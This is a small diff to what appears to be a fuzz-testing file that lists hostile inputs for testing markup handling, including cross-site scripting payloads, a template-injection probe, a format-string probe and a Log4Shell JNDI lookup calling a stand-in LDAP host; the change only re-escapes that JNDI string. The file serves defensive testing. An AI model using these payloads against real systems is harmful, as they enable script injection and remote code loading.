@@ -43,7 +43,7 @@ const sql = of(
 );
 const markup = of(
   ...["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</title><svg/onload=alert(1)>", "&lt;b&gt;", "&#0;", "<!--"],
-  ...["javascript:alert(1)", "data:text/html,x", "{{7*7}}", "${jndi:ldap://elsewhere.example/x}", "%s%n%x", "]]>", "\u003cb"],
+  ...["javascript:alert(1)", "data:text/html,x", "{{7*7}}", "\u0024{jndi:ldap://elsewhere.example/x}", "%s%n%x", "]]>", "\u003cb"],
 );
 /** In all widths, with what some spreadsheets pass over before them. */
 const formulas = fc
